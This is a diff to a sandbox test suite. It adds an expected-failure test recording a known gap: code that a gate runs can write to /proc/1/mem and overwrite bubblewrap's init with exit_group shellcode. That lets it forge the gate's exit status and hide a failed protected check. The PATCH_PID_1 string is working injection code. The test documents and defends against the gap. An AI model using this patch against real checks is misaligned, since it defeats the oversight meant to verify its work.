@@ -3,8 +3,11 @@ the same jail, under the run's limits, and say so when the user chose to run the
 
 from __future__ import annotations
 
+import platform
 import sys
 from pathlib import Path
+
+import pytest
 
 sys.path.insert(0, str(Path(__file__).parent))
 from sandbox_kit import SECRETS, Sentinels, make_root, needs_jail, no_secret
@@ -42,3 +45,25 @@ def test_an_unconfined_gate_says_so(tmp_path: Path) -> None:
     root = make_root(tmp_path)
     gate = run_gate("echo hi", root, protected=[], sandbox="none-i-accept-the-risk")
     assert gate.exit_code == 0 and "ran without a sandbox (--sandbox none-i-accept-the-risk)" in gate.output
+
+
+# Not confined, recorded as such (docs/SECURITY.md, "What is not confined"): every process of a gate's jail
+# has the same user and, with no Yama on the host, may open another's /proc/<pid>/mem for writing,
+# bubblewrap's init (pid 1, whose exit status is the gate's) included. Sealing them the way Claude Code is
+# sealed (an execute-only loader) stops the linker reading the loader, so a gate could not build C code.
+PATCH_PID_1 = """import os
+fields = open("/proc/1/syscall").read().split()
+with open("/proc/1/mem", "r+b", buffering=0) as mem:
+    mem.seek(int(fields[-1], 16))
+    mem.write(bytes.fromhex("31ffb8e70000000f05"))  # exit_group(0) where pid 1 returns from its syscall
+"""
+
+
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="the patch is x86-64 code")
+@pytest.mark.xfail(strict=True, reason="known: code a gate runs can choose the gate's exit status through /proc")
+def test_code_a_gate_runs_cannot_choose_its_exit_status(tmp_path: Path) -> None:
+    root = make_root(tmp_path)
+    (root / "agent_code.py").write_text(PATCH_PID_1)
+    gate = run_gate("python3 agent_code.py\necho the protected check fails\nexit 3", root, protected=[])
+    assert "the protected check fails" in gate.output
+    assert gate.exit_code == 3
